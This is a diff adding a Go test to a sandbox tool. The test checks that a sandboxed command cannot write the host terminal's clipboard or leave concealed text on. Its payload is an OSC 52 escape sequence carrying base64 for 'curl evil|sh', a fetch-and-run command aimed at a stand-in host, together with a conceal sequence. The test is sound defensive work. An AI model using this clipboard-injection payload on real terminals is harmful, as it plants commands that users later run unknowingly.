@@ -274,3 +274,35 @@ func TestSignalReachesGroup(t *testing.T) {
 		t.Errorf("exit %d, output %q: want 130 and no \"after\"", code, out.String())
 	}
 }
+
+// A sandbox on a real terminal that writes the host's clipboard (OSC 52, a command the
+// operator would paste later) and leaves concealed text on, as a hostile review did:
+// the clipboard write never reaches the host terminal, and the screen state is put back
+// before box prints its own report. With the terminal protection off, both reach it
+// (the test can fail).
+func TestTTYClipboardAndConceal(t *testing.T) {
+	w := newWorld(t)
+	run := func() string {
+		p := startOnPTY(t, w, w.cmd("run", "-y", "--", "sh", "-c",
+			`printf 'be\033]52;c;Y3VybCBldmlsfHNo\007fore\033[8m'; git init -q planted; echo done`))
+		if code := p.wait(t); code != 0 {
+			t.Fatalf("exit %d:\n%q", code, p.screen.String())
+		}
+		p.screen.WaitFor(t, 0, "planted", within) // the audit's report, printed after the reset
+		return p.screen.String()
+	}
+	out := run()
+	if strings.Contains(out, "\x1b]52;") || !strings.Contains(out, "before") {
+		t.Errorf("the clipboard write reached the host terminal:\n%q", out)
+	}
+	conceal := strings.Index(out, "\x1b[8m")
+	reset := strings.LastIndex(out, "\x1b[0m\x1b[?47l")
+	report := strings.LastIndex(out, "planted")
+	if conceal < 0 || reset < conceal || report < reset {
+		t.Errorf("no reset between the sandbox's conceal (at %d) and box's report (at %d): reset at %d\n%q", conceal, report, reset, out)
+	}
+	w.withProtectionOff(t, "terminal")
+	if out := run(); !strings.Contains(out, "\x1b]52;") {
+		t.Errorf("with the terminal protection off the clipboard write did not reach the terminal (the test proves nothing):\n%q", out)
+	}
+}
